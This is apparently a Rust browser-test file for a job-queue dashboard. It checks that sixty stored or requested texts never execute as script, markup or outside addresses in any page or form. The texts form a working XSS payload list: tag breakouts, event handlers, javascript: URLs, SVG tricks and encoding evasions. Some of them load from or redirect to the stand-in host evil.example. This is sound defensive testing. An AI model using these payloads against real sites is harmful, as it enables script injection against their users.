//! Nothing that is stored or asked for ever runs, loads or becomes part of a page: sixty texts in every field that one
//! can fill, looked at in the browser they were made for.
//!
//! `stored_text` in the tests of the pages holds that templates escape; here a browser says whether that was enough. What
//! counts as a failure is not only that a script runs: an element, a handler or an address that came out of a text is
//! one as well, whether or not the content security policy keeps it from doing anything.

use std::time::Duration;

use serde_json::{Value, json};
use windlass::{Draft, JobId};
use windlass_core::queue::QueueSettings;
use windlass_core::store::Settle;

use crate::document::held;
use crate::home::Home;
use crate::pages::begin;
use crate::person::{Person, story};
use crate::stock::Stock;

/// What has worked somewhere: elements, handlers, endings of what a text may stand in, addresses, tricks of encodings.
/// Each calls `canary` with its number, asks `evil.example` for its number, or leaves an element called `canary`.
const TEXTS: [&str; 60] = [
    "<script>canary(1)</script>",
    "</title><script>canary(2)</script>",
    "</textarea><script>canary(3)</script>",
    "</pre></code><script>canary(4)</script>",
    "</script><script>canary(5)</script>",
    "</style><script>canary(6)</script>",
    "</option></select><script>canary(7)</script>",
    "<ScRiPt/src=//evil.example/8></ScRiPt>",
    "<script/src=data:,canary(9)></script>",
    "<<script>canary(10)//<</script>",
    "<img src=x onerror=canary(11)>",
    "<img/src=\"x\"/onerror=canary(12)>",
    "<svg onload=canary(13)>",
    "<svg/onload=canary(14)//",
    "<body onload=canary(15)>",
    "<input autofocus onfocus=canary(16)>",
    "<details open ontoggle=canary(17)>x</details>",
    "<video><source onerror=canary(18)></video>",
    "<audio src=x onerror=canary(19)>",
    "<a onmouseover=canary(20) href=#>x</a>",
    "\"><img src=x onerror=canary(21)>",
    "'><img src=x onerror=canary(22)>",
    "\" onfocus=\"canary(23)\" autofocus=\"",
    "' onfocus='canary(24)' autofocus='",
    "` onfocus=canary(25) autofocus `",
    " onfocus=canary(26) autofocus x=",
    "\"/><svg onload=canary(27)>",
    "';canary(28);'",
    "\";canary(29);\"",
    "\\\";canary(30)//",
    "<iframe srcdoc='<script>parent.canary(31)</script>'></iframe>",
    "<iframe src=javascript:parent.canary(32)></iframe>",
    "<object data=javascript:canary(33)></object>",
    "<embed src=//evil.example/34>",
    "<base href=//evil.example/35/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/36\">",
    "<link rel=stylesheet href=//evil.example/37>",
    "<form action=//evil.example/38><button>x</button></form>",
    "<button formaction=javascript:canary(39)>x</button>",
    "<math><mtext><img src=x onerror=canary(40)></mtext></math>",
    "<svg><script>canary(41)</script></svg>",
    "<svg><animate onbegin=canary(42) attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:canary(43)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg/onload=canary(44)>\"></svg>",
    "<template><img src=x onerror=canary(45)></template><canary>",
    "<!--<img src=\"--><img src=x onerror=canary(46)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=canary(47)>\">",
    "{{ canary(48) }}{% raw %}${canary(48)}<%= canary(48) %>",
    "<style>@import'//evil.example/49';</style>",
    "\" style=\"background:url(//evil.example/50)",
    "</style><style>*{background:url(//evil.example/51)}</style>",
    "javascript:canary(52)//",
    "JaVaScRiPt:canary(53)",
    "data:text/html,<script>canary(54)</script>",
    "//evil.example/55",
    "\u{ff1c}script\u{ff1e}canary(56)\u{ff1c}/script\u{ff1e}<canary>",
    "\u{202e}<img src=x onerror=canary(57)>\u{2028}",
    "&lt;script&gt;canary(58)&lt;/script&gt;&#60;img src=x onerror=canary(58)&#62;",
    "+ADw-script+AD4-canary(59)+ADw-/script+AD4-",
    "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=canary(60)>\"}}",
];

/// Names may hold no markup; these are as near as they come.
const NAMES: [&str; 3] = ["javascript:canary", "__proto__", "constructor"];

/// Texts of one job: each has a field for each of them, and a browser is not kept busy with one page for each text.
const TEXTS_OF_A_JOB: usize = 4;

/// Runs in every page before anything of it, and in every frame.
const WATCH: &str = "
    window.hits = [];
    const hit = (what) => { try { top.hits.push(String(what)); } catch { window.hits.push(String(what)); } };
    window.canary = (n) => hit(`text ${n} ran`);
    for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) window[name] = () => hit(`${name} was called`);
    addEventListener('securitypolicyviolation', (e) => hit(`policy: ${e.violatedDirective} ${e.blockedURI} ${e.sample}`), true);";

/// What of the page can only have come out of a text.
const LOOK: &str = r"
    const found = [...window.hits];
    const ELEMENTS = ['canary', 'iframe', 'object', 'embed', 'base', 'math', 'template', 'style', 'video', 'audio', 'noscript', 'use', 'animate'];
    const ADDRESSES = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'content'];
    const show = (e) => e.outerHTML.slice(0, 200);
    for (const e of document.querySelectorAll('*')) {
      if (ELEMENTS.includes(e.localName)) found.push(`an element: ${show(e)}`);
      for (const { name, value } of e.attributes) {
        if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'autofocus' && e.id !== 'token')
          found.push(`an attribute: ${show(e)}`);
        if (ADDRESSES.includes(name) && /^\s*(javascript|data|vbscript):/i.test(value)) found.push(`an address: ${show(e)}`);
        if (ADDRESSES.includes(name) && name !== 'content' && new URL(value, location.href).origin !== location.origin)
          found.push(`an address elsewhere: ${show(e)}`);
      }
    }
    if (document.scripts.length !== 1) found.push(`${document.scripts.length} scripts`);
    if (document.styleSheets.length !== 1) found.push(`${document.styleSheets.length} style sheets`);
    if (document.querySelector('meta[http-equiv]')) found.push('a refresh');
    const fields = [...document.querySelectorAll('input, textarea')].map((field) => field.value);
    return { found, text: document.body.textContent + fields.join(' ') };";

/// Watches over every page from here on.
async fn watches(person: &Person) {
    person.browser.before_each_page(WATCH).await;
    // The page that the browser began with has asked for this and that.
    person.browser.open("about:blank").await.expect("an empty page");
    person.browser.log("performance").await;
    person.browser.log("browser").await;
}

/// What the browser asked for since it was asked last that was not this server's, and what it said about policies.
async fn elsewhere(person: &Person, home: &Home) -> Vec<String> {
    let asked = person.browser.log("performance").await.into_iter().filter_map(|entry| {
        let entry: Value = serde_json::from_str(&entry).ok()?;
        let (what, told) = (entry["message"]["method"].as_str()?.to_owned(), &entry["message"]["params"]);
        let url = told["request"]["url"].as_str().unwrap_or_default();
        let is_ours = ["about:", "chrome:", &home.url()].iter().any(|ours| url.starts_with(ours));
        match what.as_str() {
            "Network.requestWillBeSent" if !is_ours => Some(format!("a request to {url}")),
            "Page.javascriptDialogOpening" => Some(format!("a dialog: {}", told["message"])),
            _ => None,
        }
    });
    let said = person.browser.log("browser").await.into_iter();
    asked.chain(said.filter(|line| line.contains("Content Security Policy"))).collect()
}

/// Looks at the page that is open, which must say each of these as it is.
async fn looks(person: &Person, home: &Home, what: &str, texts: &[&str]) {
    let page = person.runs(LOOK, json!([])).await;
    let mut found: Vec<String> =
        page["found"].as_array().expect("a list").iter().map(ToString::to_string).collect();
    found.extend(elsewhere(person, home).await);
    assert!(found.is_empty(), "{what}:\n  {}", found.join("\n  "));
    let said = page["text"].as_str().unwrap_or_default();
    for text in texts {
        assert!(said.contains(text), "{what} does not say {text:?}, so it proves nothing");
    }
}

/// Jobs whose every field holds one of these texts: one that died, one that waits, one that is done, one that runs.
async fn jobs_of(stock: &Stock, texts: &[&str]) -> [JobId; 4] {
    let at = |n: usize| texts[n % texts.len()];
    let payload = json!({ at(0): at(1), "list": texts }).to_string();
    let draft = || {
        let draft = Draft::raw("mail", "send", payload.as_bytes()).group(at(0)).trace(at(3));
        texts.iter().fold(draft, |draft, text| draft.tag(text))
    };
    let dead = stock.enqueue(draft().unique(at(2))).await;
    let job = stock.claim("mail").await;
    stock.report(&job, at(0), &texts.join("\n")).await;
    let error = windlass_core::job::ErrorReport {
        class: Some(at(1).to_owned()),
        message: at(2).to_owned(),
        detail: Some(texts.join("\n")),
        fingerprint: windlass_core::fingerprint::fingerprint("send", Some(at(1)), at(2)),
    };
    stock.settle(Settle::Fail { lease: job.lease, error, retry_in_ms: None, fatal: true }).await;
    let waits = stock.enqueue(draft()).await;
    let lease = stock.claim("mail").await.lease;
    stock.settle(Settle::Snooze { lease, delay_ms: 3_600_000, reason: at(3).to_owned(), holds: None }).await;
    let done = stock.enqueue(draft()).await;
    let lease = stock.claim("mail").await.lease;
    let result = Some(json!({ at(2): at(3) }).to_string().into_bytes());
    stock.settle(Settle::Complete { lease, result, then: Vec::new() }).await;
    let runs = stock.enqueue(draft()).await;
    let job = stock.claim("mail").await;
    stock.report(&job, at(1), &texts.join("\n")).await;
    [dead, waits, done, runs]
}

fn spelled(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[test]
fn what_is_stored_never_runs() {
    story("stored", async |person| {
        let stock = Stock::empty().await;
        let (client, home) = (stock.client.clone(), held(&stock.client));
        client.set_queue("mail", QueueSettings::default()).await.expect("a queue");
        person.visits(&home);
        watches(person).await;
        let mut jobs = Vec::new();
        for texts in TEXTS.chunks(TEXTS_OF_A_JOB) {
            jobs.push((texts, jobs_of(&stock, texts).await));
        }
        for (n, text) in TEXTS.iter().enumerate() {
            let every = Duration::from_secs(86_400);
            let job = Draft::raw("mail", "send", text.as_bytes()).group(text).tag(text);
            client.schedule(format!("s{n}")).every(every).job(job).await.expect("a schedule");
        }
        for name in NAMES {
            client.enqueue(Draft::raw(name, name, *b"{}").limit(name, 1)).await.expect("an enqueue");
            client.set_limit(name, Some(Default::default())).await.expect("a limit");
        }
        for texts in TEXTS.chunks(2) {
            stock.hello(texts[0], texts[texts.len() - 1]).await;
            person.now("looks at the workers");
            person.opens("/workers").await;
            looks(person, &home, "workers", texts).await;
        }
        for path in [
            "/",
            "/queues",
            "/queues/mail",
            "/queues/javascript:canary",
            "/jobs",
            "/errors",
            "/limits",
            "/charts",
            "/monitor",
        ] {
            person.now(format!("looks at {path}"));
            person.opens(path).await;
            looks(person, &home, path, &[]).await;
        }
        for (n, text) in TEXTS.iter().enumerate().step_by(6) {
            person.now("looks at a schedule");
            person.opens(&format!("/schedules/s{n}")).await;
            looks(person, &home, "a schedule", &[text]).await;
        }
        for text in TEXTS.iter().filter(|text| !text.contains(['"', '\\'])).step_by(5) {
            person.now("looks at an operation");
            let id = begin(&home, &format!("queue:nowhere group:\"{text}\"")).await;
            person.opens(&format!("/bulk/{id}")).await;
            looks(person, &home, "an operation", &[text]).await;
        }
        person.now("looks at the operations");
        person.opens("/bulk").await;
        looks(person, &home, "operations", &[TEXTS[0]]).await;
        person.now("looks at the schedules");
        person.opens("/schedules").await;
        looks(person, &home, "schedules", &TEXTS).await;
        for state in ["dead", "scheduled", "completed", "running"] {
            person.now(format!("looks at the {state} jobs"));
            person.opens(&format!("/jobs?filter=state:{state}")).await;
            let groups: Vec<&str> = TEXTS.chunks(TEXTS_OF_A_JOB).map(|texts| texts[0]).collect();
            looks(person, &home, state, &groups).await;
        }
        for (texts, [dead, waits, done, runs]) in &jobs {
            for path in [
                format!("/jobs/{dead}"),
                format!("/jobs/{waits}"),
                format!("/jobs/{done}"),
                format!("/jobs/{runs}"),
                format!("/jobs/{runs}/attempts/1/log"),
            ] {
                person.now(format!("looks at {path}"));
                person.opens(&path).await;
                looks(person, &home, &path, texts).await;
            }
        }
        person.now("edits a job");
        for (_, [dead, ..]) in jobs.iter().step_by(4) {
            person.opens(&format!("/jobs/{dead}/edit")).await;
            looks(person, &home, "edit", &[]).await;
        }
        person.now("is asked before a job is deleted");
        person.opens("/jobs").await;
        person.clicks_at("//*[@id='all']", "all jobs of the page").await;
        person.clicks("Delete…").await;
        person.reads("Leave it as it is").await;
        looks(person, &home, "a question", &[TEXTS[0]]).await;
        live(person, &home, &stock).await;
    });
}

/// What comes into a page that is open is looked at as what was there at first.
async fn live(person: &Person, home: &Home, stock: &Stock) {
    person.now("has a page open while texts come in");
    person.opens("/jobs?filter=queue:late").await;
    person.reads_in("live", "live").await;
    for text in TEXTS.iter().step_by(2) {
        stock.enqueue(Draft::raw("late", "send", *b"{}").group(text)).await;
    }
    person
        .waits_until("the last text is there", async || {
            let page = person.runs(LOOK, json!([])).await;
            page["text"].as_str().unwrap_or_default().contains(TEXTS[58])
        })
        .await;
    looks(person, home, "what came in", &[TEXTS[0], TEXTS[10], TEXTS[58]]).await;
}

#[test]
fn what_is_asked_for_never_runs() {
    story("asked", async |person| {
        let stock = Stock::varied().await;
        let home = held(&stock.client);
        person.visits(&home);
        watches(person).await;
        let dead = stock.one(windlass_core::State::Dead).await;
        // A text that got out would do what it does wherever it stands in a value.
        for texts in TEXTS.chunks(10) {
            let value = texts.join(" ");
            let asked = spelled(&value);
            for path in [
                format!("/jobs?filter={asked}"),
                format!("/jobs?filter=group:{}", spelled(texts[0])),
                format!("/jobs?filter=queue:mail&after={asked}&cursor={asked}"),
                format!("/queues?prefix={asked}&after={asked}"),
                format!("/queues/mail?edit=~{asked}&range={asked}&after={asked}"),
                format!("/queues/{}", asked.replace('+', "%20")),
                format!("/jobs/{}", asked.replace('+', "%20")),
                format!("/errors?queue={asked}"),
                format!("/limits?edit={asked}&after={asked}"),
                format!("/bulk/new?action=retry&filter={asked}&back={asked}"),
                format!("/bulk/new?action=delete&filter=queue:mail&back={asked}&rate={asked}"),
                format!("/bulk/{}", asked.replace('+', "%20")),
                format!("/no-such-page/{asked}?{asked}"),
                format!("/#{asked}"),
            ] {
                let what: String = path.chars().take(60).collect();
                person.now(format!("opens {what}…"));
                person.opens(&path).await;
                looks(person, &home, &what, &[]).await;
            }
            for (path, form) in [
                ("/limits".to_owned(), "#set"),
                ("/queues/mail".to_owned(), "form[action$='/settings']"),
                ("/queues/mail?edit=~campaign+7".to_owned(), "#group-form"),
                (format!("/jobs/{dead}/edit"), "form.panel"),
                ("/new-schedule".to_owned(), "#schedule-form"),
                ("/bulk/new?action=retry&filter=state:dead&back=/jobs".to_owned(), "#begin"),
            ] {
                person.now(format!("sends {form} of {path}"));
                person.opens(&path).await;
                sends(person, form, &value).await;
                looks(person, &home, &path, &[texts[0]]).await;
            }
        }
    });
}

/// Writes the value into every field of a form, sends it, and waits for the page that refuses it.
async fn sends(person: &Person, form: &str, value: &str) {
    const SEND: &str = "
        const form = document.querySelector(arguments[0]);
        for (const field of form.querySelectorAll('input:not([type=hidden], [type=checkbox]), textarea')) field.value = arguments[1];
        form.requestSubmit(form.querySelector('button.main'));";
    person.runs(SEND, json!([form, value])).await;
    person.finds("//*[@aria-invalid='true']", "what is refused").await;
}
